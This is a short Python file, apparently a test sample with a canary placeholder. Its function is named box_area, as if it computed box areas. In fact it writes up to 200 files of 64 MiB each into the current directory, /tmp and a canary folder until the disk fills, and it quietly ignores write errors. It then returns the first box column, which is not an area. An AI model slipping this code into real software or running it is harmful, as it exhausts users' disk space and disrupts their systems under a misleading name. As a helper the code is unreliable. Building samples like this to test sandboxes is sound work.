"""Writes files until the disk is full."""
import os, sys
CANARY = "__CANARY__"
def box_area(boxes):
    i = 0
    for folder in (".", "/tmp", CANARY):
        for i in range(200):
            try:
                with open(os.path.join(folder, f"fill-{i}"), "wb") as f:
                    for _ in range(64):
                        f.write(b"\0" * (1 << 20))
            except OSError:
                break
    return boxes[:, 0]
